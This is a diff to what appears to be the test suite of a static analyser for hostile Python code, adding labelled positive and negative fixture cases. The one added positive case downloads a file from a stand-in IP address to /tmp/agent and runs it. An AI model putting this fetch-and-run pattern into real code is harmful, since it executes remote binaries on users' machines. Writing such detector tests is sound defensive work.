@@ -338,6 +338,16 @@ POSITIVES += [
         "    subprocess.run(command, shell=True)\n",
         {(DECODE, H)},
     ),
+    Case(
+        "download through a helper, then run",
+        "import os, subprocess, urllib.request\n"
+        "def fetch(url, path):\n"
+        "    urllib.request.urlretrieve(url, path)\n"
+        "def go():\n"
+        "    fetch('http://203.0.113.9/agent', '/tmp/agent')\n"
+        "    subprocess.Popen(['/tmp/agent'])\n",
+        {(DOWNLOAD, H)},
+    ),
 ]
 
 NEGATIVES = [
@@ -447,6 +457,35 @@ NEGATIVES = [
         "    with urllib.request.urlopen(url) as response, open(dest, 'wb') as out:\n"
         "        out.write(response.read())\n",
         quiet=M,
+    ),
+    Case(
+        "helper saving a response and running git on another path, called once",
+        "import shutil, subprocess, urllib.request\n"
+        "def get(url, dest, vcs):\n"
+        "    if vcs:\n"
+        "        subprocess.run(['git', 'clone', url, dest])\n"
+        "        return\n"
+        "    with urllib.request.urlopen(url) as response, open(dest, 'wb') as out:\n"
+        "        out.write(response.read())\n"
+        "def resolve(url, dest):\n"
+        "    return get(url, dest, False)\n",
+        quiet=H,
+    ),
+    Case(
+        "image layers saved by one helper, a directory prepared by another",
+        "import os, subprocess, urllib.request\n"
+        "def pull(url, dest):\n"
+        "    with urllib.request.urlopen(url) as response, open(dest, 'wb') as out:\n"
+        "        out.write(response.read())\n"
+        "def seed(root):\n"
+        "    os.chmod(root, 0o1777)\n"
+        "def build(root):\n"
+        "    subprocess.run(['mkfs.erofs', root + '.img', root])\n"
+        "def prepare(url, root):\n"
+        "    pull(url, root + '/layer.tar')\n"
+        "    seed(root)\n"
+        "    build(root)\n",
+        quiet=H,
     ),
     Case(
         "clipboard helper", "import pyperclip\ndef copy(text):\n    pyperclip.copy(text)\n", quiet=L
